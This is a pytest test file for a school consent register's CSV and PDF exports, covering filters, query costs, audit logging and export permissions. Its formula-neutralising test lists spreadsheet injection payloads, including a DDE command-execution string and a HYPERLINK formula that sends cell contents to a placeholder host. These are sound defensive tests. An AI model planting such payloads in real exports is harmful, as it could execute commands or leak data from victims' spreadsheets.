"""The consent register's exports: CSV for a spreadsheet, PDF for the DPO's file."""

import csv
import datetime as dt
import io
import json
import shutil
import subprocess

import pytest
from django.db import connection
from django.template.loader import render_to_string
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from consent import exports, views_exports
from consent.models import ConsentEvent, Guardianship
from consent.services import consent_give, consent_record_by_staff, consent_refuse
from lib.csvsafe import FORMULA_PREFIXES
from schools.models import AuditEntry
from tests.conftest import sign_in
from tests.factories import GroupFactory, GuardianFactory, GuardianshipFactory

from .consent_setup import five_pupil_registry, guardian_of, publish, pupil_at, purpose_for

pytestmark = pytest.mark.django_db

PURPOSE = "Live video lessons scheduled by the school"


def _today(school) -> dt.date:
    return timezone.now().astimezone(school.tz).date()


@pytest.fixture
def notice(personas):
    return publish(purpose_for(personas.school))


@pytest.fixture
def family(personas, notice):
    """Ann and Bob Smith, both with parental responsibility, of Cara Smith in Owls: Ann consented through
    her link, Bob's refusal reached the school on a paper form. A refusal wins."""
    school = personas.school
    owls = GroupFactory(school=school, name="Owls")
    cara = pupil_at(school, mis_id="P100", first_name="Cara", last_name="Smith", year_group="Year 5")
    owls.pupils.add(cara)
    ann = GuardianFactory(school=school, first_name="Ann", last_name="Smith")
    bob = GuardianFactory(school=school, first_name="Bob", last_name="Smith")
    GuardianshipFactory(guardian=ann, pupil=cara, relationship=Guardianship.Relationship.MOTHER)
    GuardianshipFactory(guardian=bob, pupil=cara, relationship=Guardianship.Relationship.FATHER)
    consent_give(guardian=ann, pupil=cara, notice=notice, attestation=True)
    received = _today(school)
    consent_record_by_staff(staff=personas.office, guardian=bob, pupil=cara, notice=notice, kind="refused",
                            channel=ConsentEvent.Channel.PAPER_FORM, received_on=received)
    return {"pupil": cara, "ann": ann, "bob": bob, "owls": owls, "received": received}


@pytest.fixture
def registry(personas, notice):
    return five_pupil_registry(personas.school, notice)


def _get(client, user, name, school, **params):
    sign_in(client, user)
    return client.get(reverse(f"consent:{name}", kwargs={"school_pk": school.pk}), params)


def _csv_text(response) -> str:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content).decode("utf-8")


def _csv(client, personas, user=None, **params) -> list[dict[str, str]]:
    text = _csv_text(_get(client, user or personas.office, "register-csv", personas.school, **params))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _pdf_text(pdf: bytes, tmp_path) -> str:
    assert shutil.which("pdftotext"), "pdftotext (poppler-utils) is needed; .ci/run installs it"
    path = tmp_path / "register.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True,
                          text=True).stdout


def _pdf(client, user, school, **params) -> bytes:
    response = _get(client, user, "register-pdf", school, **params)
    assert response.status_code == 200, response
    assert response["Content-Type"] == "application/pdf"
    return response.content


# --- CSV -----------------------------------------------------------------------------------------


def test_csv_shows_one_row_per_pupil_with_each_guardians_own_decision(client, personas, family):
    rows = _csv(client, personas)
    received = family["received"].isoformat()
    assert list(rows[0]) == [
        "Last name", "First name", "MIS id", "Year group", "Groups", "Left on", "Consent", "Renewal needed",
        "Decided by", "Channel", "Date of decision", "Guardians",
        "Guardian 1 name", "Guardian 1 relationship", "Guardian 1 parental responsibility", "Guardian 1 decision",
        "Guardian 1 channel", "Guardian 1 date",
        "Guardian 2 name", "Guardian 2 relationship", "Guardian 2 parental responsibility", "Guardian 2 decision",
        "Guardian 2 channel", "Guardian 2 date",
    ]
    assert rows == [{
        "Last name": "Smith", "First name": "Cara", "MIS id": "P100", "Year group": "Year 5", "Groups": "Owls",
        "Left on": "", "Consent": "Refused", "Renewal needed": "No",
        # A refusal wins: Bob's paper form decides, dated the day it reached the school.
        "Decided by": "Bob Smith", "Channel": "Paper form", "Date of decision": received, "Guardians": "2",
        "Guardian 1 name": "Ann Smith", "Guardian 1 relationship": "Mother",
        "Guardian 1 parental responsibility": "Yes", "Guardian 1 decision": "Consent given",
        "Guardian 1 channel": "Parent's personal link", "Guardian 1 date": _today(personas.school).isoformat(),
        "Guardian 2 name": "Bob Smith", "Guardian 2 relationship": "Father",
        "Guardian 2 parental responsibility": "Yes", "Guardian 2 decision": "Refused",
        "Guardian 2 channel": "Paper form", "Guardian 2 date": received,
    }]


def test_csv_is_named_after_the_school_the_group_and_the_day(client, personas, family):
    today = _today(personas.school).isoformat()
    response = _get(client, personas.office, "register-csv", personas.school)
    assert response["Content-Disposition"] == f'attachment; filename="consent-register-laxey-{today}.csv"'
    response = _get(client, personas.office, "register-csv", personas.school, group=family["owls"].pk)
    assert response["Content-Disposition"] == f'attachment; filename="consent-register-laxey-owls-{today}.csv"'


def test_csv_reads_accents_and_pads_pupils_with_fewer_guardians(client, personas, family):
    zoe = pupil_at(personas.school, mis_id="P200", first_name="Zoë", last_name="Ñúñez")
    rows = {row["MIS id"]: row for row in _csv(client, personas)}
    assert rows["P200"]["First name"] == "Zoë" and rows["P200"]["Last name"] == "Ñúñez"
    assert rows["P200"]["Consent"] == "No answer" and rows["P200"]["Decided by"] == ""
    assert rows["P200"]["Guardians"] == "0" and rows["P200"]["Guardian 2 name"] == ""
    assert zoe.pk


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://x.test/?"&A1,"Go")']  # every payload fits the 40-character year group


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_neutralises_formula_cells_in_every_column(client, personas, notice, formula):
    school = personas.school
    group = GroupFactory(school=school, name=formula)
    pupil = pupil_at(school, mis_id=formula, first_name=formula, last_name=formula, year_group=formula)
    group.pupils.add(pupil)
    guardian = GuardianFactory(school=school, first_name=formula, last_name=formula)
    GuardianshipFactory(guardian=guardian, pupil=pupil)
    consent_give(guardian=guardian, pupil=pupil, notice=notice, attestation=True)
    text = _csv_text(_get(client, personas.office, "register-csv", school))
    [header, row] = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(row) == len(header)
    for column, cell in zip(header, row, strict=True):
        assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES), f"{column}: {cell!r}"
    by_column = dict(zip(header, row, strict=True))
    for column in ("Last name", "First name", "MIS id", "Year group", "Groups"):
        assert by_column[column] == "'" + formula
    # A guardian's name is "first last": still a formula when it starts with one, so still neutralised.
    assert by_column["Decided by"].startswith("'") and by_column["Guardian 1 name"].startswith("'")


@pytest.mark.parametrize(("params", "expected"), [
    ({}, ["P1", "P2", "P3", "P4", "P5"]),
    ({"status": "given"}, ["P1", "P5"]),
    ({"status": "refused"}, ["P2"]),
    ({"status": "withdrawn"}, ["P3"]),
    ({"status": "none"}, ["P4"]),
    ({"status": "renewal"}, ["P5"]),
    ({"renewal": "on"}, ["P5"]),
    ({"q": "ben refused"}, ["P2"]),
    ({"q": "p4"}, ["P4"]),
    ({"leavers": "on"}, ["P1", "P2", "P3", "P4", "P5", "P9"]),
    ({"group": "foxes"}, ["P3", "P4"]),
    ({"group": "owls", "leavers": "on", "status": "given"}, ["P1", "P5"]),
])
def test_csv_exports_what_the_pupil_list_shows_with_the_same_filters(client, personas, registry, params, expected):
    if "group" in params:
        params = {**params, "group": registry[params["group"]].pk}
    assert sorted(row["MIS id"] for row in _csv(client, personas, **params)) == expected
    listed = _get(client, personas.office, "pupils", personas.school, **params).context["rows"]
    assert sorted(row["pupil"].mis_id for row in listed) == expected


def test_csv_states_match_the_pupil_list_badges(client, personas, registry):
    rows = {row["MIS id"]: (row["Consent"], row["Renewal needed"]) for row in _csv(client, personas)}
    assert rows == {
        "P1": ("Consent given", "No"), "P2": ("Refused", "No"), "P3": ("Withdrawn", "No"),
        "P4": ("No answer", "No"), "P5": ("Consent given", "Yes"),
    }


def test_csv_never_contains_another_schools_pupils(client, personas, family):
    other_notice = publish(purpose_for(personas.other_school))
    stranger = pupil_at(personas.other_school, mis_id="X1", first_name="Cara", last_name="Smith")
    consent_give(guardian=guardian_of(stranger), pupil=stranger, notice=other_notice, attestation=True)
    assert [row["MIS id"] for row in _csv(client, personas, q="smith", leavers="on")] == ["P100"]
    # The DPO's organisation holds only the first school: the other one answers 404.
    assert _get(client, personas.dpo, "register-csv", personas.other_school).status_code == 404


def test_a_group_of_another_school_exports_nothing(client, personas, family):
    foreign = GroupFactory(school=personas.other_school, name="Owls")
    before = AuditEntry.objects.count()
    response = _get(client, personas.office, "register-csv", personas.school, group=foreign.pk)
    assert response.status_code == 302
    assert response["Location"] == reverse("consent:pupils", kwargs={"school_pk": personas.school.pk})
    assert AuditEntry.objects.count() == before
    messages = [str(m) for m in response.wsgi_request._messages]
    assert messages == ["These filters are not valid, so nothing was exported. Choose them again."]


def test_without_a_consent_purpose_there_is_nothing_to_export(client, personas):
    pupil_at(personas.school)
    response = _get(client, personas.office, "register-pdf", personas.school)
    assert response.status_code == 302
    assert not AuditEntry.objects.filter(action="registry.exported").exists()


def _pupils_with_two_guardians(school, notice, count: int) -> None:
    group = GroupFactory(school=school)
    for _ in range(count):
        pupil = pupil_at(school)
        group.pupils.add(pupil)
        mother, father = guardian_of(pupil), guardian_of(pupil)
        consent_give(guardian=mother, pupil=pupil, notice=notice, attestation=True)
        consent_refuse(guardian=father, pupil=pupil, notice=notice)


def _queries_for_csv(client, personas) -> tuple[int, int]:
    sign_in(client, personas.office)
    url = reverse("consent:register-csv", kwargs={"school_pk": personas.school.pk})
    with CaptureQueriesContext(connection) as captured:
        text = b"".join(client.get(url).streaming_content).decode()
    return len(captured), text.count("\n") - 1


def test_csv_costs_the_same_queries_for_10_and_60_pupils(client, personas, notice):
    _pupils_with_two_guardians(personas.school, notice, 10)
    queries_10, rows_10 = _queries_for_csv(client, personas)
    _pupils_with_two_guardians(personas.school, notice, 50)
    queries_60, rows_60 = _queries_for_csv(client, personas)
    assert (rows_10, rows_60) == (10, 60)
    assert queries_60 == queries_10


def test_csv_costs_a_constant_number_of_queries_per_batch(client, personas, notice, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 10)
    _pupils_with_two_guardians(personas.school, notice, 10)
    queries_one_batch, _ = _queries_for_csv(client, personas)
    _pupils_with_two_guardians(personas.school, notice, 50)
    queries_six_batches, rows = _queries_for_csv(client, personas)
    # Per batch: the pupils, their groups, their guardianships with guardians, their status rows.
    assert rows == 60
    assert queries_six_batches - queries_one_batch == 5 * 4


# --- PDF -----------------------------------------------------------------------------------------


def test_pdf_is_a_document_with_title_notice_counts_and_pupils(client, personas, registry, tmp_path):
    pdf = _pdf(client, personas.dpo, personas.school)
    assert pdf.startswith(b"%PDF")
    text = _pdf_text(pdf, tmp_path)
    assert f"Consent register — {PURPOSE} — Laxey Test School (whole school)" in text
    notice = registry["notice"]
    assert f"Version {notice.version}, published" in text
    assert notice.sha256 in text.replace("\n", "").replace(" ", "")
    assert personas.dpo.email in text
    # Pupils, then the counts in the order of the header: given, of which renewal, refused, withdrawn,
    # lapsed, no answer.
    lines = [line.split() for line in text.splitlines() if line.strip()]
    header = next(i for i, words in enumerate(lines) if words[:3] == ["Pupils", "Consent", "given"])
    assert " ".join(lines[header]) == "Pupils Consent given Of which renewal needed Refused Withdrawn Lapsed No answer"
    assert lines[header + 1] == ["5", "2", "1", "1", "1", "0", "1"]
    for name in ("Given, Ada", "Refused, Ben", "Withdrawn, Cy", "Silent, Di", "Renewal, Ed"):
        assert name in text
    assert "Left, Flo" not in text


def test_pdf_of_a_group_names_the_group_and_its_filters(client, personas, registry, tmp_path):
    pdf = _pdf(client, personas.headteacher, personas.school, group=registry["owls"].pk, status="given")
    text = _pdf_text(pdf, tmp_path)
    assert f"Consent register — {PURPOSE} — Laxey Test School (Owls)" in text
    assert "Status: Consent given" in text
    assert "Given, Ada" in text and "Renewal, Ed" in text and "Refused, Ben" not in text
    today = _today(personas.school).isoformat()
    response = _get(client, personas.headteacher, "register-pdf", personas.school, group=registry["owls"].pk)
    assert response["Content-Disposition"] == f'attachment; filename="consent-register-laxey-owls-{today}.pdf"'


def test_pdf_shows_markup_and_template_syntax_in_names_literally(client, personas, notice, tmp_path):
    pupil = pupil_at(personas.school, first_name="<script>", last_name="{{ x }}")
    guardian = GuardianFactory(school=personas.school, first_name="<b>B</b>", last_name="{% now %}")
    GuardianshipFactory(guardian=guardian, pupil=pupil)
    consent_give(guardian=guardian, pupil=pupil, notice=notice, attestation=True)
    GroupFactory(school=personas.school, name="Owls & <i>F</i>").pupils.add(pupil)
    text = _pdf_text(_pdf(client, personas.office, personas.school), tmp_path)
    assert "{{ x }}, <script>" in text
    assert "<b>B</b> {% now %}" in text
    assert "Owls & <i>F</i>" in text
    assert "&lt;" not in text and "&amp;" not in text


def test_pdf_numbers_its_pages_and_repeats_the_title_on_a_long_register(client, personas, notice, tmp_path):
    group = GroupFactory(school=personas.school, name="Reception & Nursery")
    for number in range(90):
        pupil = pupil_at(personas.school, mis_id=f"L{number:03d}")
        group.pupils.add(pupil)
        consent_give(guardian=guardian_of(pupil), pupil=pupil, notice=notice, attestation=True)
    text = _pdf_text(_pdf(client, personas.office, personas.school, group=group.pk), tmp_path)
    pages = [page for page in text.split("\f") if page.strip()]
    assert len(pages) > 2
    title = f"Consent register — {PURPOSE} — Laxey Test School (Reception & Nursery)"
    for number, page in enumerate(pages, start=1):
        assert f"Page {number} of {len(pages)}" in page
        assert title in page.splitlines()[0] or title in page.split("\n\n")[0].replace("\n", " ")
    assert "L089" in text


def test_pdf_refuses_more_pupils_than_one_document_holds(client, personas, registry, monkeypatch):
    monkeypatch.setattr(views_exports, "PDF_MAX_ROWS", 3)
    response = _get(client, personas.office, "register-pdf", personas.school)
    assert response.status_code == 302
    assert "too many for one PDF" in str(next(iter(response.wsgi_request._messages)))
    assert not AuditEntry.objects.filter(action="registry.exported").exists()


# --- Audit and buttons -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "pdf"])
def test_each_export_is_audited_without_personal_data(client, personas, family, fmt):
    response = _get(client, personas.office, f"register-{fmt}", personas.school,
                    group=family["owls"].pk, q="Cara", status="refused")
    if fmt == "csv":
        b"".join(response.streaming_content)
    entry = AuditEntry.objects.get(action="registry.exported")
    assert entry.actor_id == personas.office.pk and entry.school_id == personas.school.pk
    assert entry.data == {
        "format": fmt, "school": personas.school.pk, "group": family["owls"].pk,
        "filters": {"status": "refused", "renewal": False, "leavers": False, "search": True}, "rows": 1,
    }
    # The search words (here a pupil's name) and the names exported stay out of the audit trail.
    recorded = json.dumps(entry.data) + entry.object_repr
    assert "Cara" not in recorded and "Smith" not in recorded


def test_export_buttons_carry_the_lists_filters_and_show_only_to_exporters(personas, family):
    school, owls = personas.school, family["owls"]
    query = f"group={owls.pk}&status=refused"
    html = render_to_string("consent/exports/_buttons.html",
                            {"school": school, "group": owls, "query": query, "may_export": True})
    csv_url = reverse("consent:register-csv", kwargs={"school_pk": school.pk})
    pdf_url = reverse("consent:register-pdf", kwargs={"school_pk": school.pk})
    assert f'href="{csv_url}?group={owls.pk}&amp;status=refused"' in html
    assert f'href="{pdf_url}?group={owls.pk}&amp;status=refused"' in html
    assert "Download the Owls pupils shown" in html
    assert render_to_string("consent/exports/_buttons.html",
                            {"school": school, "group": None, "query": "", "may_export": False}).strip() == ""


@pytest.mark.parametrize(("persona", "allowed"), [
    ("headteacher", True), ("office", True), ("dpo", True), ("org_admin", True),
    ("teacher", False), ("siro", False),
])
def test_may_export_follows_the_export_roles(personas, persona, allowed):
    request = RequestFactory().get("/")
    request.user = getattr(personas, persona)
    assert views_exports.may_export(request, personas.school) is allowed
